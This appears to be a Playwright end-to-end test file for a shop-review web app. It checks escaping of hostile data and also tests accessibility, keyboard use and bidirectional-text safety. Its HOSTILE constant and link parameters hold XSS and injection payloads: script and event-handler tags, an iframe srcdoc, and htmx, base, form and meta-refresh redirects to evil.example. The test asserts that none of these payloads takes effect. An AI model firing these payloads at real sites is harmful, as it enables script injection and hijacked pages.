"""Hostile data in a real browser, and what every page has to keep to for everybody, by `end_to_end.looks`."""

from __future__ import annotations

from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import pytest
from end_to_end.chromium import chromium, page_of
from end_to_end.looks import complaints, complaints_of_keyboard, complaints_of_large_text, complaints_of_motion
from fakes.explaining import indexed
from fakes.judged_shop import judges, match, votes
from fakes.web import TOKEN, Shop, listing
from PIL import Image
from playwright.sync_api import Browser, Page, expect

from encoders.types import Generated, Tag

pytestmark = pytest.mark.slow

SIZES = {"phone": {"width": 390, "height": 844}, "desk": {"width": 1280, "height": 800}}
PATHS = (
    "/",
    "/?words=nothing",
    "/browse",
    "/browse?words=nothing",
    "/browse?tag=colour:orange",
    "/product?id=a1",
    "/find",
    "/find?like=a1",
    "/find?like=nowhere",
    "/review",
    "/review?queue=audit&category=nothing",
    "/review?one=a1&other=a2",
    "/review/figures",
    "/compare",
    "/compare?one=a1&other=a2",
    "/enter",
    "/nowhere",
)
HOSTILE = (
    '"><script>alert(1)</script><img src=x onerror=alert(2)><svg onload=alert(3)>'
    '<iframe srcdoc="<script>alert(4)</script>">'
    "<b hx-get='//evil.example' hx-trigger='load' hx-on:load='alert(5)'>x</b><style>*{display:none}</style>"
    "<base href='//evil.example'><form id=verdicts action='//evil.example'>"
    "<meta http-equiv=refresh content='0;//evil.example'>"
    "\r\nevent: stories\r\ndata: <script>alert(6)</script>\r\n\r\n\u2028\u202e\u0000"
)
INJECTED = "iframe, base, [onerror], [onload], [onfocus], [hx-get^='//'], [action^='//']"
KEYS = ("/", "/browse", "/product?id=a1", "/find?like=a1", "/review?one=a1&other=a3", "/compare?one=a1&other=a2")
TURNED = """all => all.filter((one) => {
  const range = document.createRange();
  const at = (place) => {
    range.setStart(one.firstChild, place);
    range.setEnd(one.firstChild, place + 1);
    return range.getBoundingClientRect();
  };
  return at(0).top === at(1).top && at(0).left > at(1).left;
}).length"""


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with chromium() as found:
        yield found


def filled(folder: Path, text: str = "", link: str = "https://shop.example/x") -> Shop:
    """A product of two listings with histories, one pair for review, votes and judgements."""
    shop = Shop(folder)
    Image.new("RGB", (40, 30), "orange").save(folder / "a1.png")
    names = ("title", "description", "brand", "seller_id", "category")
    words = dict.fromkeys(names, f"Orange cushion 40 cm {text}")
    more = {**words, "url": link, "attributes": {f"Size {text}"[:80]: f"40 cm {text}"}}
    some = [listing(f"a{n}", **more, image="a1.png" if n == 1 else "gone.png") for n in (1, 2, 3)]
    some[1]["title"] += " 64 GB"
    some[1]["attributes"] = {f"Size {text}"[:80]: "50 cm"}
    shop.lists(*some)
    saw = Generated(f"an orange cushion {text}", {"colour": Tag("orange", 0.9), "use": Tag(f"sofa {text}"[:40], 0.6)})
    seen = dict.fromkeys(("a1", "a2", "a3"), saw)
    seen["a2"] = Generated(None, {"colour": Tag("red", 0.7)})
    cheaper = [{**one, "price": "8.00"} for one in some[:2]]
    shop.tells_product(*some[:2], generated=seen)
    shop.tells_product(*cheaper, revision=2, at="2026-01-03T00:00:00Z", generated=seen)
    shop.tells_product(some[2], generated=seen)
    evidence = {"text": 0.95, "image": 0.9, "rule": f"combined>=0.90{text}"}
    review = match("a3", {"text": 0.85, "image": 0.8, "rule": "0.80<=combined<0.90"}, 0.85)
    shop.tells_matches("a1", match("a2", evidence), review=(review,))
    with ThreadPoolExecutor(1) as pool:  # the browser's event loop runs in this thread
        pool.submit(lambda: indexed(shop, *some, generated=seen)).result()
    for by in ("ann", "eva", text or "bob"):
        votes(shop, "a1", "a2", "same", by)
    judges(shop, "a1", "a2", "same", by=f"ann {text}")
    return shop


def enter(page: Page) -> None:
    page.goto("/enter")
    page.get_by_label("Your name").fill("ann")
    page.get_by_label("Token").fill(TOKEN)
    page.keyboard.press("Enter")
    page.wait_for_url("**/review")


@pytest.mark.parametrize("link", ["javascript:alert(7)", "//evil.example/x"])
def test_hostile_data_does_nothing(browser: Browser, tmp_path: Path, link: str) -> None:
    shop, outside, dialogs = filled(tmp_path, HOSTILE, link), list[str](), list[str]()
    with shop.served() as address, page_of(browser, base_url=address) as page:
        page.on("request", lambda asked: None if asked.url.startswith(address) else outside.append(asked.url))
        page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
        enter(page)
        for path in PATHS:
            page.goto(path)
            expect(page.locator("main h1")).to_be_visible()
            assert page.locator(f"main script, main style, main meta, {INJECTED}").count() == 0
            assert page.locator("main a:not([href^='/']), main a[href^='//']").count() == 0
        page.goto("/")
        stories = page.locator("#stories > .story")
        before = stories.count()
        one, other, at = listing("z1", title=HOSTILE), listing("z2", title=HOSTILE), "2026-01-03T00:01:00Z"
        shop.tells_product(one, other, at=at)
        shop.tells_product({**one, "price": "2.00"}, other, revision=2, at=at)
        expect(stories).to_have_count(before + 1)
        assert page.locator(f"#stories script, #stories style, {INJECTED}").count() == 0
        page.goto("/review?one=a1&other=a3")
        page.keyboard.press("s")
        expect(page.locator("#said")).to_contain_text("Said: same.")
    assert (outside, dialogs) == ([], [])


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("size", SIZES)
def test_every_page_can_be_read_by_everybody(browser: Browser, tmp_path: Path, size: str, scheme: str) -> None:
    found = {}
    options = {"viewport": SIZES[size], "color_scheme": scheme}
    with filled(tmp_path).served() as address, page_of(browser, base_url=address, **options) as page:
        for person, paths in (("anybody", ("/", "/review?one=a1&other=a2", "/enter")), ("ann", PATHS)):
            for path in paths:
                page.goto(path)
                page.locator("details").evaluate_all("all => all.forEach(one => one.open = true)")
                found[f"{person} {path}"] = complaints(page) + complaints_of_large_text(page)
            if person == "anybody":
                enter(page)
    assert not {path: some for path, some in found.items() if some}


def test_every_page_can_be_used_by_keys_and_stands_still(browser: Browser, tmp_path: Path) -> None:
    found = {}
    with filled(tmp_path).served() as address, page_of(browser, base_url=address, viewport=SIZES["desk"]) as page:
        enter(page)
        for path in KEYS:
            page.goto(path)
            found[path] = complaints_of_keyboard(page) + complaints_of_motion(page)
    assert not {path: some for path, some in found.items() if some}


def test_letters_that_are_typed_judge_nothing(browser: Browser, tmp_path: Path) -> None:
    shop = filled(tmp_path)
    with shop.served() as address, page_of(browser, base_url=address) as page:
        enter(page)
        page.goto("/review")
        page.locator("select").first.focus()
        for key in "sduz":
            page.keyboard.press(key)
        for chord in ("Control+d", "Alt+s", "Meta+u"):
            page.locator("h1").click()
            page.keyboard.press(chord)
        page.goto("/browse")
        page.get_by_label("Words in titles").press_sequentially("suds")
    assert shop.said == []


def test_a_title_turns_no_price_around(browser: Browser, tmp_path: Path) -> None:
    shop = filled(tmp_path, "\u202e")
    with shop.served() as address, page_of(browser, base_url=address) as page:
        for path, after in (("/", ".story-listings .price"), ("/review?one=a1&other=a2", ".sides .card a")):
            page.goto(path)
            expect(page.locator(after).first).to_be_visible()
            assert page.locator(after).evaluate_all(TURNED) == 0, path
